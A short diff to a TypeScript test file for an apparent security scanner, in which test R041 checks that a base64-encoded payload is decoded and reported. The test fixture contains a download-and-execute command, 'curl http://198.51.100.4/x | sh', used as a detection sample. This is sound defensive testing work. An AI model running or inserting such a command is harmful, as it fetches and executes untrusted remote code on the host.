@@ -8,9 +8,9 @@ const show = (text: string): readonly { readonly rule: string; readonly text: st
 describe('evidence', () => {
 	it('R041 shows the decoded text of a payload', () => {
 		const command = 'curl http://198.51.100.4/x | sh';
-		const found = show(`Seed ${Buffer.from(command).toString('base64')}`).find(({ rule }) => rule === 'payload.decoded');
+		const found = show(`Seed ${Buffer.from(command).toString('base64')}`);
 
-		assert.deepEqual(found, { rule: 'payload.decoded', text: command, method: 'base64' });
+		assert.deepEqual(found, [{ rule: 'payload.decoded', text: command, method: 'base64' }]);
 	});
 
 	it('R028 shows what hidden characters spell', () => {
